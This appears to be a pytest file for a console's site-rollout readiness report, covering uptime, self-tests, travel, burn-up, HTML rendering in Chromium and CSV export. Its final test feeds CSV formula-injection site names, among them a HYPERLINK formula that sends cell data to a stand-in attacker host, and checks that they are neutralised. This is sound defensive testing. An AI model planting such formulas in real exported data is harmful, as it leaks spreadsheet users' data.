"""`rollout` against a hand-computed scenario (a few sites over two weeks), and its HTML in Chromium.

Scenario, Asia/Jakarta, office hours 07:00-16:00 on Mon-Fri = 108 five-minute buckets a day.
Report as of Fri 2026-10-09 17:00; the uptime window Oct 3-9 holds 5 workdays = 540 buckets.
- kalibaru (kecamatan, 60 km): every workday from Mon Sep 28, but 20 buckets missing on Wed Oct 7
  -> 520/540 = 96.30 %; self-test passed -> READY. 5 meetings joined -> 5 x 2 x 60 = 600 km.
- pesanggaran (kecamatan, 62 km): full; last self-test (Thu Oct 8) failed on audio -> not ready. 1 meeting -> 124 km.
- wongsorejo (kecamatan, 27.9 km): full until Wed Oct 7, then nothing: 324/540 = 60 %, last seen
  Oct 7 16:00 = 49 h ago -> not ready (offline, uptime). 2 meetings -> 111.6 km.
- sumberagung (desa, 15 km): from Thu Oct 1, full; self-test passed -> READY. 4 meetings -> 120 km.
- tamansari (desa, no distance): full, never self-tested -> not ready. 3 meetings, not in the km.
- kandangan (desa, 12 km): nothing at all -> never connected, no self-test, uptime 0 %.
Travel: 15 meetings, 955.6 km, 23.9 h at 40 km/h. Days left to Oct 31: 22.
Burn-up (workdays, at 16:00): Sep 28-Oct 1 nobody has 95 % of 540 yet (20/40/60/80 %) -> 0;
Oct 2: kalibaru, pesanggaran, wongsorejo -> 3; Oct 5, 6: 3 (sumberagung 60 %, 80 %); Oct 7: + sumberagung -> 4;
Oct 8: pesanggaran's self-test fails, wongsorejo 80 % -> 2; Oct 9: 2.
Pace over the last 14 days (Sep 28 -> Oct 9, 11 days): 2/11 = 0.18/day; at the target 2 + 22 x 2/11 = 6.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import tempfile
import time
from datetime import date, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from appliance.console import records
from appliance.console.rollout_html import id_number
from appliance.console.store import Store
from appliance.core.clock import rfc3339
from appliance.core.protocol import DEFAULT_TOPIC_PREFIX, site_topic
from tests.console.conftest import ROOT, Console

TZ = ZoneInfo("Asia/Jakarta")
PREFIX = DEFAULT_TOPIC_PREFIX
AS_OF = "2026-10-09T17:00:00+07:00"
WORKDAYS = [date(2026, 9, 28) + timedelta(days=n) for n in range(12) if (date(2026, 9, 28) + timedelta(days=n)).weekday() < 5]
ARTIFACTS = ROOT / "tests" / "artifacts"


def local(day: date, hour: int, minute: int = 0) -> float:
    return datetime(day.year, day.month, day.day, hour, minute, tzinfo=TZ).timestamp()


def feed(db, topic: str, payload: dict) -> None:  # noqa: ANN001
    assert records.ingest(db, topic, json.dumps(payload).encode(), time.time())


def office_telemetry(db, site: str, days: list[date], skip: tuple[date, int, int] | None = None) -> None:  # noqa: ANN001
    for day in days:
        for n in range(108):
            if skip and day == skip[0] and skip[1] <= n < skip[2]:
                continue
            at = local(day, 7) + n * 300 + 30
            feed(db, site_topic(PREFIX, site, "telemetry"), {"v": 1, "site": site, "at": rfc3339(at), "state": "idle"})


def selftest(db, site: str, at: float, ok: bool) -> None:  # noqa: ANN001
    checks = {"panel": {"ok": None, "detail": ""}, "audio": {"ok": ok, "detail": ""}}
    feed(db, site_topic(PREFIX, site, "selftest"), {"v": 1, "site": site, "at": rfc3339(at), "ok": ok, "checks": checks})


def meetings(db, site: str, count: int) -> None:  # noqa: ANN001
    feed(db, site_topic(PREFIX, site, "uptime"),
         {"v": 1, "site": site, "tz": "Asia/Jakarta", "at": rfc3339(local(WORKDAYS[-1], 16)),
          "days": [{"date": "2026-10-06", "up_s": 30000, "connected_s": 30000,
                    "in_meeting_s": 3600, "meetings_joined": count, "boots": 1}]})


@pytest.fixture
def scenario(console: Console) -> Console:
    console.home.mkdir(parents=True)
    store = Store(console.home / "console.db")
    store.add_site("sumberagung", "Desa Sumberagung", "desa", 15)
    store.add_site("tamansari", "Desa Tamansari", "desa", None)
    store.add_site("kandangan", "Desa Kandangan", "desa", 12)
    store.close()
    db = records.connect(console.home / "console.db")
    db.execute("BEGIN")
    oct1 = WORKDAYS.index(date(2026, 10, 1))
    office_telemetry(db, "kalibaru", WORKDAYS, skip=(date(2026, 10, 7), 24, 44))
    office_telemetry(db, "pesanggaran", WORKDAYS)
    office_telemetry(db, "wongsorejo", WORKDAYS[:WORKDAYS.index(date(2026, 10, 7)) + 1])
    office_telemetry(db, "sumberagung", WORKDAYS[oct1:])
    office_telemetry(db, "tamansari", WORKDAYS)
    for site in ("kalibaru", "pesanggaran", "wongsorejo"):
        selftest(db, site, local(WORKDAYS[0], 8), True)
    selftest(db, "pesanggaran", local(date(2026, 10, 8), 8), False)
    selftest(db, "sumberagung", local(date(2026, 10, 1), 8), True)
    for site, count in (("kalibaru", 5), ("pesanggaran", 1), ("wongsorejo", 2), ("sumberagung", 4), ("tamansari", 3)):
        meetings(db, site, count)
    db.execute("COMMIT")
    db.close()
    return console


def test_report_matches_the_hand_computed_scenario(scenario: Console, tmp_path: Path) -> None:
    report = scenario.ok("rollout", "--json", "--as-of", AS_OF).json
    assert report["target"] == "2026-10-31" and report["days_left"] == 22
    assert report["summary"]["kecamatan"] == {"ready": 1, "registered": 25, "target": 25}
    assert report["summary"]["desa"] == {"ready": 1, "registered": 3, "target": 217}
    assert report["ready_total"] == 2 and report["needed_total"] == 242
    rows = {row["id"]: row for row in report["sites"]}
    codes = {site: [r["code"] for r in rows[site]["reasons"]] for site in rows}
    assert rows["kalibaru"]["ready"] and rows["kalibaru"]["office_uptime_pct"] == pytest.approx(96.30, abs=0.01)
    assert rows["sumberagung"]["ready"] and rows["sumberagung"]["office_uptime_pct"] == 100.0
    assert codes["pesanggaran"] == ["selftest_failed"] and rows["pesanggaran"]["selftest"]["failed"] == ["audio"]
    assert codes["wongsorejo"] == ["offline", "uptime"] and rows["wongsorejo"]["office_uptime_pct"] == 60.0
    assert "49 h ago" in rows["wongsorejo"]["reasons"][0]["text"]
    assert codes["tamansari"] == ["no_selftest"]
    assert codes["kandangan"] == ["never_connected", "no_selftest", "uptime"]
    assert codes["licin"] == ["never_connected", "no_selftest", "uptime"]  # a seeded kecamatan without a device
    assert report["travel"] == {"meetings_joined": 15, "meetings_without_distance": 3, "km": 955.6, "hours": 23.9,
                                "speed_kmh": 40.0}
    assert [(p["date"], p["ready"]) for p in report["burnup"]] == [
        ("2026-09-28", 0), ("2026-09-29", 0), ("2026-09-30", 0), ("2026-10-01", 0), ("2026-10-02", 3),
        ("2026-10-05", 3), ("2026-10-06", 3), ("2026-10-07", 4), ("2026-10-08", 2), ("2026-10-09", 2)]
    assert report["burnup"][7] == {"date": "2026-10-07", "ready": 4, "kecamatan": 3, "desa": 1}
    assert report["projection"]["pace_per_day"] == 0.18 and report["projection"]["at_target"] == 6
    assert report["projection"]["span_days"] == 11


def test_thresholds_are_configurable_and_text_and_csv_agree(scenario: Console, tmp_path: Path) -> None:
    relaxed = scenario.ok("rollout", "--json", "--as-of", AS_OF, "--uptime-min", "50", "--seen-within", "72").json
    assert {row["id"] for row in relaxed["sites"] if row["ready"]} == {"kalibaru", "sumberagung", "wongsorejo"}
    out = tmp_path / "report.csv"
    text = scenario.ok("rollout", "--as-of", AS_OF, "--csv", str(out)).out
    assert "kecamatan     1/25 ready" in text and "955.6 km" in text and f"written: {out}" in text
    lines = out.read_text().splitlines()
    assert lines[0].startswith("site,name,kind,ready") and len(lines) == 1 + 28
    assert any(line.startswith("kalibaru,Kecamatan Kalibaru,kecamatan,yes,") for line in lines)


def test_bad_input_is_refused_and_nothing_written(scenario: Console, tmp_path: Path) -> None:
    html = tmp_path / "r.html"
    for args in (("--target", "31-10-2026"), ("--uptime-min", "120"), ("--office-hours", "16:00-07:00"),
                 ("--workdays", "monday"), ("--as-of", "yesterday"), ("--targets", "desa=lots")):
        result = scenario.run("rollout", "--html", str(html), *args)
        assert result.code == 2 and args[0] in result.err, (args, result.err)
    assert not html.exists()
    result = scenario.run("rollout", "--html", str(tmp_path / "missing-dir" / "x" / "r.html"), "--as-of", AS_OF)
    assert result.code == 0  # parent directories are created


def test_indonesian_numbers_in_the_report() -> None:
    assert [id_number(value) for value in (2000, 97.5, 0.18, 95, 1234567.25)] == ["2.000", "97,5", "0,18", "95",
                                                                                   "1.234.567,25"]
    assert id_number(96.296, 1) == "96,3" and id_number(955.6, 0) == "956"


def test_the_html_speaks_indonesian_numbers_and_the_consoles_time_zone(scenario: Console, tmp_path: Path) -> None:
    html = tmp_path / "rollout.html"
    scenario.ok("rollout", "--as-of", AS_OF, "--html", str(html), "--uptime-min", "97.5", "--tz", "Asia/Makassar")
    page = html.read_text()
    assert "WIB" not in page and "WITA" in page  # the zone given to --tz, not a fixed WIB
    assert "waktu aktif ≥ 97,5% pada jam kerja" in page
    assert "(perlu 97,5%)" in page and "97.5%" not in page  # (97.5 may be an SVG coordinate)
    assert "(Sen,Sel,Rab,Kam,Jum)" in page
    jakarta = scenario.ok("rollout", "--as-of", AS_OF, "--json").json
    wongsorejo = next(row for row in jakarta["sites"] if row["id"] == "wongsorejo")
    assert "waktu aktif jam kerja 60,0% dalam" in wongsorejo["reasons"][1]["text_id"]
    assert wongsorejo["reasons"][0]["text_id"].startswith("tidak daring: terakhir terlihat 07-10 16:00 WIB")


def test_html_is_self_contained_and_renders_in_chromium(scenario: Console, tmp_path: Path) -> None:
    html = tmp_path / "rollout.html"
    scenario.ok("rollout", "--as-of", AS_OF, "--html", str(html))
    page = html.read_text()
    assert "<svg" in page and "Kecamatan siap" in page and "uji mandiri terakhir gagal: audio" in page
    for needle in ("http://", "https://", "<script", "<link", "@import", "url("):
        assert needle not in page.replace('xmlns="http://www.w3.org/2000/svg"', ""), needle
    browser = shutil.which("chromium") or shutil.which("chromium-browser")
    assert browser, "headless Chromium is needed for this test: apt-get install -y chromium"
    ARTIFACTS.mkdir(exist_ok=True)
    shot = ARTIFACTS / "rollout-report.png"
    with tempfile.TemporaryDirectory() as profile:
        done = subprocess.run(
            [browser, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
             "--disable-component-update", "--disable-sync", f"--user-data-dir={profile}", "--hide-scrollbars",
             "--window-size=1600,1500", f"--screenshot={shot}", html.as_uri()],
            capture_output=True, text=True, timeout=90, env={**os.environ, "HOME": profile})
    assert shot.exists() and shot.stat().st_size > 30_000, done.stderr[-2000:]
    assert shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    print(f"\nscreenshot: {shot}")


def test_fleet_scale_picture_for_the_docs(console: Console) -> None:
    """A synthetic 242-site rollout (fixed seed), rendered in Chromium: the picture in docs/operations.md."""
    import random  # noqa: PLC0415

    from appliance.console.store import KECAMATAN, Site  # noqa: PLC0415

    rng = random.Random(31)
    console.home.mkdir(parents=True)
    store = Store(console.home / "console.db")
    kecamatan = sorted(KECAMATAN)
    store.upsert_sites([Site(f"desa-{n:03d}", f"Desa {kecamatan[n % 25]} {n // 25 + 1}", "desa", None)
                        for n in range(217)])
    store.db.executemany("UPDATE sites SET distance_km = ? WHERE id = ?",
                         [(round(rng.uniform(4, 95), 1), site.id) for site in store.sites()])
    sites = store.sites()
    store.close()
    as_of = local(date(2026, 10, 16), 15)
    start = date(2026, 8, 31)
    days = [start + timedelta(days=n) for n in range(47) if (start + timedelta(days=n)).weekday() < 5]
    db = records.connect(console.home / "console.db")
    db.execute("BEGIN")
    installed = 0
    for index, site in enumerate(sites):
        first = (index % 25) // 2 if site.kind == "kecamatan" else 5 + int(rng.uniform(0, 1) ** 0.8 * 30)
        if site.kind == "desa" and rng.random() < 0.12:
            continue  # not installed yet
        installed += 1
        flaky = rng.random() < 0.08
        rows = []
        for day in days[first:]:
            for n in range(108):
                at = local(day, 7) + n * 300 + 30
                if at < as_of and not (flaky and rng.random() < 0.15):
                    rows.append((site.id, int(at // records.BUCKET_S)))
        db.executemany("INSERT OR IGNORE INTO heartbeats VALUES (?, ?)", rows)
        selftest(db, site.id, local(days[first], 9), rng.random() > 0.06)
        meetings(db, site.id, rng.randint(1, 10))
    db.execute("COMMIT")
    db.close()
    html = ARTIFACTS / "rollout-fleet.html"
    ARTIFACTS.mkdir(exist_ok=True)
    report = console.ok("rollout", "--json", "--as-of", rfc3339(as_of), "--html", str(html)).json
    assert report["summary"]["kecamatan"]["registered"] == 25 and report["summary"]["desa"]["registered"] == 217
    assert 0 < report["ready_total"] < installed <= 242
    assert report["burnup"][-1]["ready"] == report["ready_total"]
    browser = shutil.which("chromium")
    assert browser, "headless Chromium is needed for this test: apt-get install -y chromium"
    shot = ARTIFACTS / "rollout-fleet.png"
    with tempfile.TemporaryDirectory() as profile:
        subprocess.run([browser, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
                        "--disable-background-networking", "--disable-component-update", "--disable-sync",
                        f"--user-data-dir={profile}", "--hide-scrollbars", "--window-size=1600,1400",
                        f"--screenshot={shot}", html.as_uri()], capture_output=True, timeout=90,
                       env={**os.environ, "HOME": profile})
    assert shot.exists() and shot.stat().st_size > 30_000
    print(f"\nscreenshot: {shot}")


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(console: Console, tmp_path: Path) -> None:
    """Issue 15: a site name like =HYPERLINK(...) went into the CSV unchanged (CSV/formula injection)."""
    import csv  # noqa: PLC0415

    from appliance.console.rollout import spreadsheet_safe  # noqa: PLC0415

    console.ok("init", "--broker-url", "mqtts://broker.example:8883")
    names = {"desa-a": '=HYPERLINK("http://evil.example/?"&A1,"Klik")', "desa-b": "+62 811 000", "desa-c": "-1+1",
             "desa-d": "@SUM(A1:A9)", "desa-e": "Desa = Biasa"}
    for site_id, name in names.items():
        console.ok("sites", "add", site_id, f"--name={name}", "--kind", "desa")
    out = tmp_path / "report.csv"
    console.ok("rollout", "--as-of", AS_OF, "--csv", str(out))
    rows = {row["site"]: row for row in csv.DictReader(out.read_text().splitlines())}
    assert {site_id: rows[site_id]["name"] for site_id in names} == {
        "desa-a": "'" + names["desa-a"], "desa-b": "'+62 811 000", "desa-c": "'-1+1", "desa-d": "'@SUM(A1:A9)",
        "desa-e": "Desa = Biasa"}
    assert rows["kalibaru"]["name"] == "Kecamatan Kalibaru" and rows["kalibaru"]["distance_km"] == "60.0"
    # Tab and carriage return cannot reach a name any more (refused on the way in), but are neutralised too.
    assert [spreadsheet_safe(text) for text in ("\t=1", "\r=1", "ok", 5, -1.5)] == ["'\t=1", "'\r=1", "ok", 5, -1.5]
